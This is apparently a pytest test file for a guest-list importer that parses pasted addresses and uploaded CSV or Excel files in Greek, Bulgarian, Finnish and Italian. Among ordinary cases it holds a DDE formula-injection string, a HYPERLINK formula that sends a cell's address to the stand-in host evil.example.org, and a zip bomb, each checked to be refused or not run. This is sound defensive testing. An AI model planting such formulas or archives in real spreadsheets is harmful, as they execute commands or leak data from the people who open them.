"""Lists of people as people paste them and save them: who is meant, and what is not understood."""

import io
import unicodedata
import zipfile
from contextlib import suppress

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from app import tables
from app.guests.files import read_file
from app.guests.lists import Guest, Unclear, read, written
from app.guests.mailboxes import Why
from app.guests.names import language_of, name_in, split_name
from app.tables import Empty, Protected, TooLarge, TooLong, TooWide, UnreadableFile

NIKOS = Guest("nikos@example.org", "Nikos", "Theodorou")
ΝΙΚΟΣ = Guest("nikos@example.org", "Νίκος", "Θεοδώρου")
GIULIA = Guest("giulia@example.org", "Giulia", "Ferrante")
AINO = Guest("aino@example.org", "Aino", "Mäkelä")
DESISLAVA = Guest("desislava@example.org", "Десислава", "Стоянова")
AT_FARM = Guest("nikos@example.org", "Nikos", "Theodorou", "Open Farm")
BARE = Guest("nikos@example.org")

# What was pasted, and who is meant
PASTED = [
    # As mail programs copy them
    ("Nikos Theodorou <nikos@example.org>", [NIKOS]),
    ("Nikos Theodorou <Nikos@Example.ORG>", [NIKOS]),
    ('"Nikos Theodorou" <nikos@example.org>', [NIKOS]),
    ('"Theodorou, Nikos" <nikos@example.org>', [NIKOS]),
    ("Theodorou, Nikos <nikos@example.org>", [NIKOS]),
    ("'Nikos Theodorou' <nikos@example.org>,", [NIKOS]),
    ("Nikos Theodorou (nikos@example.org)", [NIKOS]),
    ("Nikos Theodorou [mailto:nikos@example.org]", [NIKOS]),
    ("To: Nikos Theodorou <nikos@example.org>", [NIKOS]),
    ("Προς: Νίκος Θεοδώρου <nikos@example.org>", [ΝΙΚΟΣ]),
    ("nikos@example.org <nikos@example.org>", [BARE]),
    ("nikos@example.org<mailto:nikos@example.org>", [BARE]),
    ("Nikos Theodorou <nikos@example.org>; Giulia Ferrante <giulia@example.org>;", [NIKOS, GIULIA]),
    ("Nikos Theodorou <nikos@example.org>, Giulia Ferrante <giulia@example.org>", [NIKOS, GIULIA]),
    ("Theodorou, Nikos <nikos@example.org>; Ferrante, Giulia <giulia@example.org>", [NIKOS, GIULIA]),
    ("Theodorou, Nikos <nikos@example.org>, Ferrante, Giulia <giulia@example.org>", [NIKOS, GIULIA]),
    ('"Theodorou, Nikos" <nikos@example.org>, Giulia Ferrante <giulia@example.org>', [NIKOS, GIULIA]),
    ("Nikos Theodorou <nikos@example.org> Giulia Ferrante <giulia@example.org>", [NIKOS, GIULIA]),
    ("nikos@example.org, giulia@example.org; aino@example.org",
     [BARE, Guest("giulia@example.org"), Guest("aino@example.org")]),
    ("nikos@example.org giulia@example.org", [BARE, Guest("giulia@example.org")]),
    ("nikos@example.org\r\n\r\ngiulia@example.org\rAino Mäkelä <aino@example.org>",
     [BARE, Guest("giulia@example.org"), AINO]),
    # As people write them
    ("nikos@example.org", [BARE]),
    ("nikos@example.org.", [BARE]),
    ("<nikos@example.org>", [BARE]),
    ("mailto:nikos@example.org", [BARE]),
    ("mailto:nikos@example.org?subject=Hello", [BARE]),
    ("“nikos@example.org”", [BARE]),
    ("e-mail: nikos@example.org", [BARE]),
    ("\ufeffNikos\u00a0Theodorou\u00a0<nikos@example.org>\u200b", [NIKOS]),
    ("1. Nikos Theodorou - nikos@example.org", [NIKOS]),
    ("• Nikos Theodorou nikos@example.org", [NIKOS]),
    ("Dr. Nikos Theodorou <nikos@example.org>", [NIKOS]),
    ("κ. Νίκος Θεοδώρου: nikos@example.org", [ΝΙΚΟΣ]),
    ("THEODOROU Nikos <nikos@example.org>", [Guest("nikos@example.org", "Nikos", "THEODOROU")]),
    ("Nikos Theodorou (Open Farm) <nikos@example.org>", [AT_FARM]),
    ("Десислава Стоянова <desislava@example.org>", [DESISLAVA]),
    ("Giulia De Luca <giulia@example.org>", [Guest("giulia@example.org", "Giulia", "De Luca")]),
    ("Pat O'Neil <pat.o'neil@example.org>", [Guest("pat.o'neil@example.org", "Pat", "O'Neil")]),
    ("nikos+events@example.org", [Guest("nikos+events@example.org")]),
    # With more than a name
    ("Nikos Theodorou; nikos@example.org; Open Farm", [AT_FARM]),
    ("Nikos Theodorou, nikos@example.org, Open Farm", [AT_FARM]),
    ("nikos@example.org; Nikos Theodorou; Open Farm", [AT_FARM]),
    ("nikos@example.org, Nikos Theodorou, Open Farm", [AT_FARM]),
    ("Nikos Theodorou | nikos@example.org | Open Farm", [AT_FARM]),
    ("Nikos Theodorou <nikos@example.org> Open Farm", [AT_FARM]),
    ("Nikos;Theodorou;nikos@example.org;Open Farm", [AT_FARM]),
    ('Nikos Theodorou;nikos@example.org;"Open Farm"', [AT_FARM]),
    # Cells of a spreadsheet
    ("Nikos\tTheodorou\tnikos@example.org\tOpen Farm", [AT_FARM]),
    ("Nikos Theodorou\t+30 2310 123456\tnikos@example.org\tOpen Farm", [AT_FARM]),
    ("nikos@example.org\tNikos Theodorou\tOpen Farm\tGreece\tel",
     [Guest("nikos@example.org", "Nikos", "Theodorou", "Open Farm", "GR", "el")]),
    ("Name\tE-mail\tOrganisation\nNikos Theodorou\tnikos@example.org\tOpen Farm", [AT_FARM]),
    ("Επώνυμο\tΌνομα\tE-mail\nΘεοδώρου\tΝίκος\tnikos@example.org", [ΝΙΚΟΣ]),
    ("Ονοματεπώνυμο;Φορέας;Ηλ. ταχυδρομείο;Χώρα;Γλώσσα\n"
     "Νίκος Θεοδώρου;Αγρόκτημα;nikos@example.org;Ελλάδα;Ελληνικά",
     [Guest("nikos@example.org", "Νίκος", "Θεοδώρου", "Αγρόκτημα", "GR", "el")]),
    ("Cognome,Nome,Posta elettronica\nFerrante,Giulia,giulia@example.org", [GIULIA]),
    ("Etunimi\tSukunimi\tSähköposti\nAino\tMäkelä\taino@example.org", [AINO]),
    ("Име\tФамилия\tИмейл\nДесислава\tСтоянова\tdesislava@example.org", [DESISLAVA]),
    ("Our guests\n\nE-MAIL ADDRESS,NAME\nnikos@example.org,Nikos Theodorou", [NIKOS]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "guests"), PASTED)
def test_a_pasted_list_is_read_as_it_is_meant(text, guests):
    assert read(text).guests == guests


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("Nikos Theodorou", Why.NO_ADDRESS),
        ("Nikos at example.org", Why.NO_ADDRESS),
        ("=cmd|' /C calc'!A0", Why.NO_ADDRESS),
        ("nikos@", Why.UNREACHABLE),
        ("@example.org", Why.UNREACHABLE),
        ("nikos@localhost", Why.UNREACHABLE),
        ("nikos@example..org", Why.UNREACHABLE),
        ("nikos@example.org@example.org", Why.UNREACHABLE),
        (".nikos@example.org", Why.UNREACHABLE),
        (f"{'n' * 70}@example.org", Why.UNREACHABLE),
        ("νίκος@example.org", Why.ALPHABET),
        ("nikos@example.οrg", Why.ALPHABET),  # a Greek ο
        ("nikоs@example.org", Why.ALPHABET),  # a Cyrillic о
        ("Nikos\tnikos@example.org\tgiulia@example.org", Why.SEVERAL),
        ("Nikos nikos@example.org Giulia giulia@example.org", Why.SEVERAL),
    ],
)
def test_a_line_that_is_not_understood_comes_back_with_its_reason(line, why):
    found = read(f"Giulia Ferrante <giulia@example.org>\n{line}\nAino Mäkelä <aino@example.org>")

    assert (found.guests, found.unclear) == ([GIULIA, AINO], [Unclear(line, why)])


def test_a_title_above_the_headings_comes_back_too():
    found = read(
        "Our guests\nName;E-mail\nNikos Theodorou;nikos@example.org\nGiulia Ferrante <giulia@example.org>"
    )

    assert found.guests == [NIKOS, GIULIA]
    assert found.unclear == [Unclear("Our guests", Why.NO_ADDRESS)]
    assert found.headings == ["Name;E-mail"]


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Eleni Karavida", ("Eleni", "Karavida")),
        ("Eleni Maria Karavida", ("Eleni Maria", "Karavida")),
        ("Karavida, Eleni", ("Eleni", "Karavida")),
        ("ΚΑΡΑΒΙΔΑ Ελένη", ("Ελένη", "ΚΑΡΑΒΙΔΑ")),
        ("Ελένη ΚΑΡΑΒΙΔΑ ΠΑΠΠΑ", ("Ελένη", "ΚΑΡΑΒΙΔΑ ΠΑΠΠΑ")),
        ("Jan van der Berg", ("Jan", "van der Berg")),
        ("Prof. Dr. Giulia De Luca", ("Giulia", "De Luca")),
        ("Eleni", ("Eleni", "")),
        ("", ("", "")),
    ],
)
def test_names_are_cut_where_people_cut_them(text, name):
    assert split_name(text) == name


def test_what_stands_before_the_at_may_be_a_name():
    assert [
        name_in(f"{local}@example.org") for local in ("nikos.theodorou", "n_theodorou2", "info", "77")
    ] == [
        ("Nikos", "Theodorou"),
        ("N", "Theodorou"),
        ("Info", ""),
        ("77", ""),
    ]


def test_people_are_written_to_in_the_language_of_their_country_if_we_speak_it():
    countries = ("GR", "CY", "IT", "FI", "BG", "GB", "DE", "", "XX")

    assert [language_of(country) for country in countries] == [
        "el", "el", "it", "fi", "bg", "en", "en", "en", "en",
    ]  # fmt: skip


# Whatever is pasted

SIGNS = "\"',;\t <>()|@\n-ß🙂\x00\u00a0\ufeff\ue000"
PIECES = (
    "Nikos Θεοδώρου nikos@example.org a@b.gr mailto: E-mail Name Φορέας Стоянова =1+1 1. Greece el".split()
)
WORDS = st.sampled_from([*SIGNS, *PIECES, "Giulia <giulia@example.org>"])
TEXTS = st.one_of(st.lists(WORDS, max_size=40).map("".join), st.text(max_size=200))


@settings(deadline=None, max_examples=400)
@given(TEXTS)
def test_whatever_is_pasted_no_line_is_lost(text):
    """Each line is a guest, a heading, or comes back; and a list that was read reads the same again."""
    found = read(text)

    emails = [guest.email for guest in found.guests]
    shown = [letters(one) for one in emails + [one.line for one in found.unclear] + found.headings]
    lines = [letters(line) for line in text.splitlines()]
    assert [line for line in lines if line and not any(one in line or line in one for one in shown)] == []
    assert read(written(found.guests)).guests == found.guests


def letters(text):
    """What of a line can be read."""
    plain = unicodedata.normalize("NFKC", text).casefold()
    return "".join(letter for letter in plain if letter.isalnum())


@settings(deadline=None, max_examples=300)
@given(
    st.one_of(
        st.binary(max_size=400), TEXTS.map(str.encode), st.binary(max_size=60).map(b"PK\x03\x04".__add__)
    )
)
def test_whatever_a_file_holds_it_is_read_or_refused(data):
    with suppress(UnreadableFile):
        read_file(data)


def test_a_very_long_line_takes_no_time():
    assert read("x" * 500_000).unclear[0].why is Why.NO_ADDRESS
    assert len(read("; ".join(f"p{n}@example.org" for n in range(1000))).guests) == 1000


# Files

GREEK = "Επώνυμο;Όνομα;E-mail;Φορέας\nΘεοδώρου;Νίκος;nikos@example.org;Ζυθοποιία Θερμαϊκός\n"
GREEK += "ΜΠΑΚΑΛΗΣ;ΣΤΕΛΙΟΣ;stelios@example.org;ΑΝΑΤΟΛΙΚΗ Α.Ε.\n"
BULGARIAN = "Име,Фамилия,Имейл,Организация\nДесислава,Стоянова,desislava@example.org,Община Зелен бряг\n"
FINNISH = "Name\tE-mail\tOrganisation\nAino Mäkelä\taino@example.org\tEtelä-Pohjanmaan liitto\n"
ITALIAN = "Nome;Cognome;E-mail;Ente\nGiulia;Ferrante;giulia@example.org;Città metropolitana\n"
FILES = [
    (GREEK, "utf-8 utf-8-sig utf-16 utf-16-le utf-16-be cp1253 iso8859-7", "Ζυθοποιία Θερμαϊκός"),
    (BULGARIAN, "utf-8 utf-8-sig utf-16 cp1251", "Община Зелен бряг"),
    (FINNISH, "utf-8 utf-16-le cp1252 latin-1", "Etelä-Pohjanmaan liitto"),
    (ITALIAN, "utf-8 utf-16 cp1252 latin-1", "Città metropolitana"),
]


@pytest.mark.parametrize(
    ("text", "encoding", "organisation"),
    [
        (text, encoding, organisation)
        for text, encodings, organisation in FILES
        for encoding in encodings.split()
    ],
)
def test_a_csv_file_is_read_in_whatever_letters_it_was_saved(text, encoding, organisation):
    for ends in ("\n", "\r\n"):
        found = read_file(text.replace("\n", ends).encode(encoding))

        assert found.guests == read(text).guests
        assert (found.guests[0].organisation, found.unclear) == (organisation, [])


@pytest.mark.parametrize(
    ("text", "encoding", "name"),
    [
        ("ДИМИТЪР ВЕЛКОВ;d@example.org", "cp1251", "ДИМИТЪР"),
        ("Емил Ганев,d@example.org", "cp1251", "Емил"),
        ("Ελένη Ντόκου <d@example.org>", "cp1253", "Ελένη"),
        ("Άννα Ντόκου <d@example.org>", "cp1253", "Άννα"),
        ("Åsa Öberg;d@example.org", "latin-1", "Åsa"),
    ],
)
def test_one_line_is_enough_to_know_the_letters(text, encoding, name):
    assert [guest.given_name for guest in read_file(text.encode(encoding)).guests] == [name]


def test_a_file_without_headings_is_read_and_quotes_and_lines_inside_a_cell_are_kept_together():
    data = b'sep=,\r\n"Theodorou, Nikos","Open\r\nFarm",nikos@example.org\r\n'

    assert read_file(data).guests == [AT_FARM]


def workbook(*sheets, **options):
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, options) as book:
        for rows in sheets:
            sheet = book.add_worksheet()
            for number, row in enumerate(rows):
                sheet.write_row(number, 0, row)
    return file.getvalue()


def test_a_workbook_is_read_from_the_sheet_that_has_addresses():
    cover = [["Good practices"], ["Guests"]]
    guests = [
        ["Guests of the open event"],
        [],
        ["", "Τηλέφωνο", "Όνομα", "Επώνυμο", "e-mail", "Φορέας", "Χώρα"],
        ["", 2310123456, "Νίκος", "Θεοδώρου", "Nikos@example.org", "Ζυθοποιία", "Ελλάδα"],
        ["", "", "Aino", "Mäkelä", "aino@example.org", "", "Suomi"],
        ["", "", "Nobody", "", "", "", ""],
    ]

    found = read_file(workbook(cover, guests))

    assert found.guests == [
        Guest("nikos@example.org", "Νίκος", "Θεοδώρου", "Ζυθοποιία", "GR"),
        Guest("aino@example.org", "Aino", "Mäkelä", "", "FI"),
    ]
    assert [one.line.split() for one in found.unclear] == [
        ["Guests", "of", "the", "open", "event"],
        ["Nobody"],
    ]


def test_a_formula_is_not_run():
    """What it last showed is read: here nothing, as no program has run it."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["E-mail", "Name"])
        sheet.write(1, 0, "nikos@example.org")
        sheet.write_formula(1, 1, '=HYPERLINK("https://evil.example.org/"&A1,"Nikos")', value="")

    assert read_file(file.getvalue()).guests == [BARE]


A_SHEET = workbook([["nikos@example.org"]])
FAR = b'<row r="1048576">%b</row></sheetData>'


def far_apart(last):
    """A sheet whose last cells stand so far from the first that no memory holds what is between."""
    file, near = io.BytesIO(), zipfile.ZipFile(io.BytesIO(A_SHEET))
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in near.namelist():
            archive.writestr(name, near.read(name).replace(b"</sheetData>", FAR % last))
    return file.getvalue()


def zipped(**parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "refusal"),
    [
        (b"", Empty),
        (b" \r\n\t\n", Empty),
        (b"x" * 1_000_001, TooLarge),
        (b"a@example.org\n" * 5001, TooLong),
        (workbook([["a@example.org"]] * 5001), TooLong),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), Protected),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9, UnreadableFile),
        (b"%PDF-1.7\n" + bytes(range(1, 256)) * 9, UnreadableFile),
        (workbook([["a@example.org"]])[:2000], UnreadableFile),
        (far_apart(b'<c r="XFD1048576"><v>1</v></c>'), TooWide),
        (far_apart(b"<c><v>1</v></c>" * 3000), TooWide),
        (far_apart(b'<c r="A1048576"><v>1</v></c>'), TooLong),
        (
            zipped(xl__workbook_dot_xml="<", content_dot_xml="<"),
            UnreadableFile,
        ),  # or is it a sheet of another?
        (zipped(word__document_dot_xml="a@example.org"), UnreadableFile),  # another kind of document
        (zipped(xl__workbook_dot_xml="<"), UnreadableFile),
        (zipped(xl__workbook_dot_xml="<", bomb=bytes(tables.LARGEST_UNPACKED)), UnreadableFile),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_what_is_no_list_is_refused_with_what_to_do(data, refusal):
    with pytest.raises(refusal) as refused:
        read_file(data)

    assert refused.type is refusal
